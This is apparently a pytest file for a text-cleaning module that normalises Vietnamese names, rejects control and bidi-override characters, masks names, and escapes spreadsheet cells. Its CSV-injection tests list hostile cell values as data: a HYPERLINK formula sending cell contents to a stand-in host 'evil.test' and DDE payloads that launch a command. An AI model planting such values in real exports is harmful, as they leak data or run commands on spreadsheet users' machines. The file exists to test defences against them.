"""Human text from outside: NFC, no control or bidi-override characters, collapsed spaces."""

from __future__ import annotations

import unicodedata

import pytest

from chalicelib.core.errors import Invalid
from chalicelib.core.text import clean_text, mask_name, spreadsheet_cell

NFC_NAME = "Nguyễn Văn An"


def clean(value: str, **kwargs: object) -> str:
    options: dict[str, object] = {"max_length": 100, "code_prefix": "name", **kwargs}
    return clean_text(value, **options)  # type: ignore[arg-type]


def test_decomposed_vietnamese_is_stored_composed() -> None:
    decomposed = unicodedata.normalize("NFD", NFC_NAME)
    assert decomposed != NFC_NAME

    assert clean(decomposed) == NFC_NAME


def test_whitespace_is_trimmed_and_collapsed() -> None:
    assert clean("  Nguyễn \t  Văn\n An\u00a0 ") == NFC_NAME


@pytest.mark.parametrize("name", ["Trần Thị 🌸 Mai", "Lê 😀", "Ông Bà 🇻🇳"])
def test_emoji_is_accepted(name: str) -> None:
    assert clean(name) == name


@pytest.mark.parametrize(
    "bad",
    [
        "An\u202eeviL",  # right-to-left override
        "An\u202d",  # left-to-right override
        "An\u2066x\u2069",  # isolates
        "An\x00",  # NUL
        "An\x1b[31m",  # terminal escape
        "An\u200b",  # zero-width space (Cf)
        "An\ue000",  # private use
        "An\r\nB",
    ],
)
def test_control_and_bidi_characters_are_rejected(bad: str) -> None:
    with pytest.raises(Invalid) as caught:
        clean(bad)
    assert caught.value.code == "name_bad_characters"


def test_blank_required_text_is_rejected() -> None:
    with pytest.raises(Invalid) as caught:
        clean(" \t ")
    assert caught.value.code == "name_required"


def test_blank_optional_text_is_empty() -> None:
    assert clean("   ", code_prefix="address", required=False) == ""


def test_too_long_text_is_rejected_after_collapsing() -> None:
    assert clean("A" + " " * 200 + "B", max_length=3) == "A B"
    with pytest.raises(Invalid) as caught:
        clean("A" * 101)
    assert caught.value.code == "name_too_long"


def test_length_is_counted_in_composed_characters() -> None:
    decomposed = unicodedata.normalize("NFD", "ễ" * 100)

    assert clean(decomposed) == "ễ" * 100


def test_error_codes_carry_the_field_prefix() -> None:
    with pytest.raises(Invalid) as caught:
        clean("x\u202e", code_prefix="address")
    assert caught.value.code == "address_bad_characters"


def test_mask_name_keeps_initials_only() -> None:
    assert mask_name(NFC_NAME) == "N***** V** A*"
    assert mask_name("An") == "A*"
    assert "guy" not in mask_name(NFC_NAME)


# --- spreadsheet cells (CSV injection) -------------------------------------------------------


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("http://evil.test/?x="&A1,"Bảo hành")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "＝1+1",
    ],
)
def test_a_value_a_spreadsheet_would_run_gets_a_leading_apostrophe(typed: str) -> None:
    assert spreadsheet_cell(typed) == "'" + typed


@pytest.mark.parametrize(
    "typed", ["Máy lạnh Inverter AC-9", "Nguyễn Văn An", "12 Lê Lợi, Q.1", "LÔ-2026-01", "", "'=1"]
)
def test_an_ordinary_value_goes_into_a_cell_unchanged(typed: str) -> None:
    assert spreadsheet_cell(typed) == typed
